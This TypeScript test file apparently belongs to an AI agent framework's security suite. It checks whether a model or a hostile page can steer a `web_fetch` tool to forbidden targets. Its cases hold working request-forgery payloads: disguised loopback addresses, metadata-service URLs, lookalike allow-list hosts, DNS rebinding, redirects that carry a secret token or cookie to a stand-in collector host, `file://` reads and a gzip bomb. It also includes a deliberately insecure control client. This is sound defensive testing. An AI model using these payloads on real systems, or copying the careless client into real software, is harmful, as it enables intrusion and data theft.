// Row 25: a model or a page that leads `web_fetch` to a forbidden place. The outside web is this host under other names; the
// forbidden place is a canary on one of its ports. The control makes the same call with a typical naive client.
import { readFile } from 'node:fs/promises'
import { request as requestHttp, type IncomingMessage, type RequestListener } from 'node:http'
import { request as requestHttps } from 'node:https'
import { gunzipSync, gzipSync } from 'node:zlib'
import { z } from 'zod'
import { type Approval, defineTool, type Tool } from '../../src/index.ts'
import { webFetchTool, type WebFetchOptions } from '../../src/tools/web/web-fetch.ts'
import { CERTIFICATE, names, serve, type Web, type Where } from '../tools/web.ts'
import type { Case, Row } from './case.ts'
import type { World } from './world.ts'

/** The requests that reached a forbidden place. */
const met = new WeakMap<World, IncomingMessage[]>()
const hung = new WeakSet<World>()

async function web(world: World, answer: RequestListener, where: Where = {}): Promise<Web> {
  const one = await serve(answer, where)
  world.defer(one.close)
  return one
}

function canary(world: World, where: Where = {}): Promise<Web> {
  const asked: IncomingMessage[] = met.get(world) ?? []
  met.set(world, asked)
  return web(
    world,
    (request, response) => {
      asked.push(request)
      response.setHeader('content-type', 'text/plain').end(world.secret)
    },
    where,
  )
}

const reached = (world: World): boolean => (met.get(world) ?? []).length > 0

const LOOPBACK = ['127.0.0.1']
/** Only `public.test` and what is below `example.org` are outside; the other names are of the network within. */
const OUTSIDE = [
  'public.test',
  '*.example.org',
  'evil-example.org',
  'docs.example.org.evil.test',
  'collector.test',
  'secure.test',
]
const TABLE = Object.fromEntries(
  [...OUTSIDE, 'docs.example.org', 'metadata.internal', 'localhost', 'both.test'].map((name) => [name, LOOPBACK]),
)

type Setting = Pick<WebFetchOptions, 'hosts' | 'resolve' | 'privateHosts'> & {
  readonly approval?: Approval | null
  readonly webs: readonly Web[]
  /** What the careless client asks before it connects. */
  readonly naive?: { readonly approval?: (url: string) => Approval; readonly look?: boolean }
}

function tool(world: World, { webs, approval = 'auto', naive = {}, ...more }: Setting): Tool {
  const options = {
    ports: webs.map(({ port }) => port),
    privateHosts: OUTSIDE,
    resolve: names(TABLE),
    ca: CERTIFICATE,
    ...more,
  }
  return world.defended
    ? webFetchTool({ ...options, ...(approval === null ? {} : { approval }) })
    : careless(options.resolve, naive)
}

/** A client that asks about nothing and follows anywhere. */
export const carelessFetch = (resolve: NonNullable<WebFetchOptions['resolve']>): Tool =>
  careless(resolve, { look: true })

/** Checks the text of a URL at most, then follows it anywhere: with its cookies, and to the end of every body. */
function careless(
  resolve: NonNullable<WebFetchOptions['resolve']>,
  { approval = () => 'auto', look = false }: NonNullable<Setting['naive']>,
): Tool {
  return defineTool({
    name: 'web_fetch',
    description: 'Fetches.',
    input: z.looseObject({ url: z.string() }),
    effect: 'read',
    approval: ({ url }) => approval(url),
    execute: async ({ url }, { signal }) => {
      const jar: string[] = []
      for (let at = new URL(url), from = ''; ; ) {
        if (at.protocol === 'file:') return readFile(at, 'utf8')
        // Resolved once for the check, and once more for the connection.
        if (look) await resolve(at.hostname)
        const response = await send(at, resolve, { referer: from, cookie: jar.join('; ') }, signal)
        jar.push(...(response.headers['set-cookie'] ?? []))
        const { location } = response.headers
        if (location === undefined) return textOf(response)
        response.resume()
        from = at.href
        at = new URL(location, at)
      }
    },
  })
}

async function send(
  url: URL,
  resolve: NonNullable<WebFetchOptions['resolve']>,
  headers: Readonly<Record<string, string>>,
  signal: AbortSignal,
): Promise<IncomingMessage> {
  const host = url.hostname.replace(/[[\]]/g, '')
  const [address = host] = /^[\d.]+$|:/.test(host) ? [host] : await resolve(host.replace(/\.$/, ''))
  const secret = url.username === '' ? {} : { authorization: `Basic ${url.username}:${url.password}` }
  const options = {
    host: address,
    port: url.port,
    path: url.pathname + url.search,
    agent: false as const,
    signal,
    headers: { ...headers, ...secret },
  }
  return new Promise((done, fail) => {
    const request =
      url.protocol === 'https:' ? requestHttps({ ...options, rejectUnauthorized: false }) : requestHttp(options)
    request.on('response', done).on('error', fail).end()
  })
}

async function textOf(response: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = []
  for await (const chunk of response) chunks.push(chunk as Buffer)
  const body = Buffer.concat(chunks)
  return (response.headers['content-encoding'] === 'gzip' ? gunzipSync(body) : body).toString()
}

const fetchIt = (world: World, setting: Setting, url: string, timeoutMs = 10_000): Promise<unknown> =>
  world.call([tool(world, setting)], 'web_fetch', { url, timeout_ms: timeoutMs })

/** The model writes the address of something within. */
function spelled(name: string, url: (port: number) => string, where: Where = {}): Case {
  return {
    name,
    attack: async (world) => {
      const within = await canary(world, where)
      await fetchIt(world, { webs: [within] }, url(within.port))
    },
    harmed: reached,
  }
}

/** A page outside sends its reader within. */
function redirected(name: string, to: (port: number) => string, status = 302): Case {
  return {
    name,
    attack: async (world) => {
      const within = await canary(world)
      const page = await web(
        world,
        (_, response) => void response.writeHead(status, { location: to(within.port) }).end(),
      )
      await fetchIt(world, { webs: [page, within] }, `http://public.test:${page.port}/`)
    },
    harmed: reached,
  }
}

/** A host that looks like one of the allowed list; no person is there to approve it. */
function twin(name: string, host: string, naive: (url: string) => boolean): Case {
  return {
    name,
    attack: async (world) => {
      const within = await canary(world)
      const approval = (url: string): Approval => (naive(url) ? 'auto' : 'ask')
      const setting = {
        webs: [within],
        hosts: ['docs.example.org', '*.example.org'],
        approval: null,
        naive: { approval },
      }
      await fetchIt(world, setting, `http://${host}:${within.port}/docs.example.org`)
    },
    harmed: reached,
  }
}

function unending(name: string, answer: RequestListener): Case {
  return {
    name,
    attack: async (world) => {
      const page = await web(world, answer)
      const work = fetchIt(world, { webs: [page] }, `http://public.test:${page.port}/`, 300)
      if (!(await world.ends(work))) hung.add(world)
    },
    harmed: (world) => hung.has(world),
  }
}

const SPELLED: readonly Case[] = [
  spelled('writes the address of this host', (port) => `http://127.0.0.1:${port}/`),
  spelled('writes it as one decimal number', (port) => `http://2130706433:${port}/`),
  spelled('writes it in hexadecimal and octal', (port) => `http://0x7f.0.0.01:${port}/`),
  spelled('writes it in letters that only look like digits', (port) => `http://１２７。０。０。１:${port}/`),
  spelled('writes it inside IPv6', (port) => `http://[::ffff:127.0.0.1]:${port}/`),
  spelled('writes it as the loopback of IPv6', (port) => `http://[::1]:${port}/`, { host: '::1' }),
  spelled('writes a name of this host', (port) => `http://localhost.:${port}/`),
  spelled('writes the name of a metadata service', (port) => `http://metadata.internal:${port}/latest/`),
  spelled('writes a good host as the user of a bad one', (port) => `http://docs.example.org@127.0.0.1:${port}/`),
]

const REDIRECTED: readonly Case[] = [
  redirected('is redirected to this host', (port) => `http://127.0.0.1:${port}/`),
  redirected('is redirected to this host for good', (port) => `http://0x7f000001:${port}/`, 301),
  redirected('is redirected to a metadata service', (port) => `//metadata.internal:${port}/latest/`, 307),
  redirected('is redirected with credentials', (port) => `http://root:root@public.test:${port}/`, 308),
]

const TWINS: readonly Case[] = [
  twin('asks a host that ends like a listed one', 'evil-example.org', (url) =>
    new URL(url).hostname.endsWith('example.org'),
  ),
  twin('asks a host that begins like a listed one', 'docs.example.org.evil.test', (url) =>
    url.startsWith('http://docs.example.org'),
  ),
  twin('asks a host and names a listed one in the path', 'collector.test', (url) => url.includes('docs.example.org')),
]

const REST: readonly Case[] = [
  {
    name: 'looks up a name that stands for something else a moment later',
    attack: async (world) => {
      const within = await canary(world)
      await web(world, (_, response) => void response.end('honest'), { host: '127.0.0.2', port: within.port })
      let asked = 0
      const resolve = () => Promise.resolve([asked++ === 0 ? '127.0.0.2' : '127.0.0.1'])
      await fetchIt(world, { webs: [within], resolve, naive: { look: true } }, `http://public.test:${within.port}/`)
    },
    harmed: reached,
  },
  {
    name: 'looks up a name that has a good address and a bad one',
    attack: async (world) => {
      const within = await canary(world)
      const resolve = () => Promise.resolve(['127.0.0.1', '198.41.0.4'])
      await fetchIt(world, { webs: [within], resolve }, `http://both.test:${within.port}/`)
    },
    harmed: reached,
  },
  {
    name: 'asks another port of a good host',
    attack: async (world) => {
      const [within, page] = [await canary(world), await web(world, (_, response) => void response.end('x'))]
      await fetchIt(world, { webs: [page] }, `http://public.test:${within.port}/`)
    },
    harmed: reached,
  },
  {
    name: 'is redirected from https to http',
    attack: async (world) => {
      const plain = await canary(world)
      const location = `http://secure.test:${plain.port}/`
      const page = await web(world, (_, response) => void response.writeHead(302, { location }).end(), { secure: true })
      await fetchIt(world, { webs: [page, plain] }, `https://secure.test:${page.port}/`)
    },
    harmed: reached,
  },
  {
    name: 'carries what it learned at one host to another',
    attack: async (world) => {
      const collector = await canary(world)
      const location = `http://collector.test:${collector.port}/`
      const page = await web(world, (_, response) => {
        response.writeHead(302, { location, 'set-cookie': `session=${world.secret}` }).end()
      })
      await fetchIt(world, { webs: [page, collector] }, `http://public.test:${page.port}/?token=${world.secret}`)
    },
    harmed: (world) => JSON.stringify((met.get(world) ?? []).map(({ headers }) => headers)).includes(world.secret),
  },
  {
    name: 'is sent by a listed host to one that nobody agreed to',
    attack: async (world) => {
      const collector = await canary(world)
      const page = await web(world, (request, response) => {
        const location = `http://collector.test:${collector.port}${request.url}`
        response.writeHead(302, { location }).end()
      })
      const setting = { webs: [page, collector], hosts: ['public.test'], approval: null }
      await fetchIt(world, setting, `http://public.test:${page.port}/${world.secret}`)
    },
    harmed: (world) => (met.get(world) ?? []).some(({ url = '' }) => url.includes(world.secret)),
  },
  {
    name: 'asks for a file of this host',
    attack: async (world) => {
      const page = await web(world, (_, response) => void response.end('x'))
      await fetchIt(world, { webs: [page] }, `file://${world.outside}/secret.txt`)
    },
    harmed: (world) => world.leaked,
  },
  {
    name: 'unpacks a bomb',
    attack: async (world) => {
      // The mark stands at the end: only a client that unpacked all of it can see it.
      const bomb = gzipSync(`<p hidden>${'x'.repeat(12 * 1024 * 1024)}</p>unpacked ${world.mark}`)
      const headers = { 'content-type': 'text/html', 'content-encoding': 'gzip' }
      const page = await web(world, (_, response) => void response.writeHead(200, headers).end(bomb))
      await fetchIt(world, { webs: [page] }, `http://public.test:${page.port}/`)
    },
    harmed: (world) => world.shown.includes(`unpacked ${world.mark}`),
  },
  unending('reads a page without end', (_, response) => {
    response.writeHead(200, { 'content-type': 'text/plain' }).write('x')
    const timer = setInterval(() => response.write('x'), 20)
    response.on('close', () => clearInterval(timer))
  }),
  unending('follows redirects without end', (request, response) => {
    response.writeHead(302, { location: `/${Number(request.url?.slice(1)) + 1}` }).end()
  }),
]

export const fetches: Row = {
  row: 25,
  title: 'web_fetch led to where it must not go',
  cases: [...SPELLED, ...REDIRECTED, ...TWINS, ...REST],
}
